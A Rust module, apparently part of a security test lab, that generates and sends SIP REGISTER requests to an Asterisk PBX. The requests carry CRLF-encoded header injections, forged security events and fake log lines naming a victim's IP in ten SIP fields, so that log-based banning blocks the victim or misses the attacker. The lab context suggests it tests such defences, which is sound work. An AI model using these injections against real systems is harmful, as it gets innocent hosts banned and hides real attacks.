//! What a stranger writes into SIP so that somebody else is banned for it, or he himself is not: forged headers, whole
//! forged security events and whole forged log lines that name a victim's address, in every field that he chooses, with
//! line breaks in every way that SIP lets them through. Made by combining the three.
use crate::request::Request;
use crate::{Attacker, LabError, Pbx, clock};
use std::net::{Ipv4Addr, UdpSocket};
use std::time::Duration;

const SIP_PORT: u16 = 5060;
/// Between two requests of one case.
const EVERY: Duration = Duration::from_millis(5);

/// The field.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Place {
    /// The user part of From: Asterisk decodes it and writes it as the account.
    User,
    /// The Call-ID: Asterisk writes it as the session.
    CallId,
    /// The name beside From's address.
    FromName,
    /// User-Agent.
    UserAgent,
    /// The name in an Authorization header.
    AuthName,
    /// The answer to a challenge, of an account that exists.
    AuthResponse,
    /// Contact.
    Contact,
    /// To.
    To,
    /// Via, which says where answers go.
    Via,
    /// P-Asserted-Identity.
    Asserted,
}

/// What is written there. `V` stands for the victim's address, a line feed for a break.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Form {
    /// The address alone.
    Address,
    /// The end of a quoted value, and a value of its own.
    Quoted,
    /// The words in which Asterisk refuses a request.
    Words,
    /// One more header.
    Header,
    /// A whole security event.
    Event,
    /// The end of the event, and an answer to an action.
    Answer,
    /// A whole line of the security log.
    SecurityLine,
    /// A whole line of the log of messages.
    NoticeLine,
    /// A line that says that an attack was seen.
    AttackLine,
}

/// How breaks and blanks are written.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Writing {
    /// There are none.
    Plain,
    /// `%0d%0a`.
    Lower,
    /// `%0D%0A`.
    Upper,
    /// `%0a` alone.
    LineFeed,
    /// A header that goes on in the next line.
    Folded,
}

/// One thing to send.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Case {
    /// In which field.
    pub place: Place,
    /// What.
    pub form: Form,
    /// How.
    pub writing: Writing,
}

impl Place {
    const ALL: [Place; 10] = [
        Place::User,
        Place::CallId,
        Place::FromName,
        Place::UserAgent,
        Place::AuthName,
        Place::AuthResponse,
        Place::Contact,
        Place::To,
        Place::Via,
        Place::Asserted,
    ];

    /// The ways in which a break can be written there.
    fn writings(self) -> &'static [Writing] {
        match self {
            Place::User => &[Writing::Lower, Writing::Upper, Writing::LineFeed],
            Place::CallId | Place::FromName | Place::UserAgent | Place::AuthName => {
                &[Writing::Lower, Writing::Folded]
            }
            Place::AuthResponse | Place::Contact | Place::To | Place::Asserted => &[Writing::Lower],
            Place::Via => &[],
        }
    }
}

impl Form {
    const PLAIN: [Form; 3] = [Form::Address, Form::Quoted, Form::Words];
    const BROKEN: [Form; 6] =
        [Form::Header, Form::Event, Form::Answer, Form::SecurityLine, Form::NoticeLine, Form::AttackLine];

    fn text(self, v: Ipv4Addr) -> String {
        let stamp = "[2026-11-28 00:00:00.000]";
        match self {
            Form::Address => v.to_string(),
            Form::Quoted => format!("1\",RemoteAddress=\"IPV4/UDP/{v}/5060"),
            Form::Words => format!("1) - x' failed for '{v}:5060' (callid: 1"),
            // As short as it can be: an account is cut at 36 bytes.
            Form::Header => format!("\nRemoteAddress:IPV4/UDP/{v}/1"),
            Form::Event => format!(
                "1\n\nEvent: InvalidAccountID\nPrivilege: security,all\nService: PJSIP\nAccountID: 1\nSessionID: 1\n\
                 LocalAddress: IPV4/UDP/{v}/5060\nRemoteAddress: IPV4/UDP/{v}/5060\n\n"
            ),
            Form::Answer => format!("1\n\nResponse: Success\nRemoteAddress: IPV4/UDP/{v}/1\n\n"),
            Form::SecurityLine => format!(
                "1\n{stamp} SECURITY[1] res_security_log.c: SecurityEvent=\"InvalidAccountID\",AccountID=\"1\",\
                 RemoteAddress=\"IPV4/UDP/{v}/5060\"\n"
            ),
            Form::NoticeLine => format!(
                "1\n{stamp} NOTICE[1] res_pjsip/pjsip_distributor.c: Request 'REGISTER' from '<sip:1@x>' failed for \
                 '{v}:5060' (callid: 1) - No matching endpoint found\n"
            ),
            Form::AttackLine => format!("1\n{stamp} NOTICE[1] a.c: hacking attempt detected '{v}'\n"),
        }
    }
}

impl Writing {
    fn write(self, text: &str) -> String {
        let breaks = match self {
            Writing::Plain | Writing::LineFeed => "\n",
            Writing::Lower | Writing::Upper => "\r\n",
            Writing::Folded => "\r\n ",
        };
        let text = text.replace('\n', breaks);
        match self {
            Writing::Plain | Writing::Folded => text,
            Writing::Lower | Writing::LineFeed => text.replace('\r', "%0d").replace('\n', "%0a"),
            Writing::Upper => text.replace('\r', "%0D").replace('\n', "%0A"),
        }
    }
}

impl Case {
    /// Every field with every form, written in every way that the field allows.
    #[must_use]
    pub fn all() -> Vec<Case> {
        let mut cases = Vec::new();
        for place in Place::ALL {
            let plain = if place == Place::Via { &Form::PLAIN[..1] } else { &Form::PLAIN[..] };
            cases.extend(plain.iter().map(|form| Case { place, form: *form, writing: Writing::Plain }));
            for form in Form::BROKEN {
                cases.extend(place.writings().iter().map(|writing| Case { place, form, writing: *writing }));
            }
        }
        cases
    }

    /// Whether line breaks reach what Asterisk writes: in the account, and nowhere else.
    #[must_use]
    pub fn is_tampering(self) -> bool {
        self.place == Place::User && self.writing != Writing::Plain
    }

    /// The `n`-th request of it.
    fn request(self, v: Ipv4Addr, source: Ipv4Addr, port: u16, target: Ipv4Addr, n: u32) -> Request {
        let tag = format!("case-{n}-{port:x}-{:x}", clock::since_1970().as_nanos());
        let mut request = Request::register(&format!("u{n}"), source, port, target, &tag);
        let text = self.writing.write(&self.form.text(v));
        let quoted = text.replace('\\', "").replace('"', "\\\"");
        let digest = |name: &str, response: &str| {
            format!(
                "Authorization: Digest username=\"{name}\",realm=\"asterisk\",nonce=\"1/{n}\",uri=\"sip:{target}\",\
                 response=\"{response}\",algorithm=MD5\r\n"
            )
        };
        match self.place {
            // The number first: the same name again and again would be a phone with an old password.
            Place::User if self.writing == Writing::Plain => request.user = escaped(&format!("{n}{text}")),
            Place::User => request.user = escaped(&text),
            Place::CallId => request.call_id = format!("{n}{text}"),
            Place::FromName => request.from_name = format!("\"{quoted}\" "),
            Place::UserAgent => request.more = format!("User-Agent: {text}\r\n"),
            Place::AuthName => request.more = digest(&quoted, "0123456789abcdef0123456789abcdef"),
            Place::AuthResponse => {
                request.user = crate::phone::ACCOUNT.into();
                request.more = digest(crate::phone::ACCOUNT, &quoted);
            }
            Place::Contact => request.contact = format!("<sip:{}@{v}:5060>", escaped(&text)),
            Place::To => request.to = format!("<sip:{}@{v}>", escaped(&text)),
            Place::Via => request.via = format!("{v}:5060;received={v}"),
            Place::Asserted => {
                request.more = format!("P-Asserted-Identity: <sip:{}@{v}>\r\n", escaped(&text));
            }
        }
        request
    }
}

/// As it may stand in a URI: what is escaped already stays.
fn escaped(text: &str) -> String {
    let mut out = String::new();
    for byte in text.bytes() {
        if byte.is_ascii_alphanumeric() || byte == b'%' {
            out.push(char::from(byte));
        } else {
            out.push_str(&format!("%{byte:02x}"));
        }
    }
    out
}

impl Attacker {
    /// Sends a case from one of its addresses, once for each victim.
    ///
    /// # Errors
    /// Nothing can be sent.
    pub fn inject(
        &self,
        case: Case,
        source: Ipv4Addr,
        victims: &[Ipv4Addr],
        target: &Pbx,
    ) -> Result<(), LabError> {
        let failed = LabError::file("send from", format!("/run/netns/{}", self.host().namespace()));
        let send = || -> std::io::Result<()> {
            let socket = UdpSocket::bind((source, 0))?;
            let port = socket.local_addr()?.port();
            for (n, victim) in (0..).zip(victims) {
                let request = case.request(*victim, source, port, target.address(), n);
                socket.send_to(request.text().as_bytes(), (target.address(), SIP_PORT))?;
                clock::pause(EVERY);
            }
            Ok(())
        };
        self.host().inside(|| send().map_err(failed))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_case_is_one_request_and_those_with_a_victim_s_header_fit_into_an_account() {
        let cases = Case::all();
        assert!((100..=150).contains(&cases.len()), "{}", cases.len());
        let v = Ipv4Addr::new(10, 9, 0, 1);
        for case in &cases {
            assert_eq!(cases.iter().filter(|other| *other == case).count(), 1, "{case:?}");
            let text = case.request(v, Ipv4Addr::LOCALHOST, 5060, Ipv4Addr::LOCALHOST, 1).text();
            let (head, body) = text.split_once("\r\n\r\n").unwrap();
            assert!(
                body.is_empty()
                    && head.lines().skip(1).all(|line| line.starts_with(' ') || line.contains(": "))
            );
            let first = |line: &str| line.split(':').next().unwrap_or_default().to_owned();
            let names: Vec<_> =
                head.lines().skip(1).filter(|line| !line.starts_with(' ')).map(first).collect();
            assert_eq!(names.iter().filter(|name| *name == "Call-ID").count(), 1, "{case:?}: {names:?}");
        }
        assert!(Form::Header.text(v).len() <= 36);
        let header = Case { place: Place::User, form: Form::Header, writing: Writing::Lower };
        let text = header.request(v, Ipv4Addr::LOCALHOST, 5060, Ipv4Addr::LOCALHOST, 1).user;
        assert_eq!(text, "%0d%0aRemoteAddress%3aIPV4%2fUDP%2f10%2e9%2e0%2e1%2f1");
    }
}
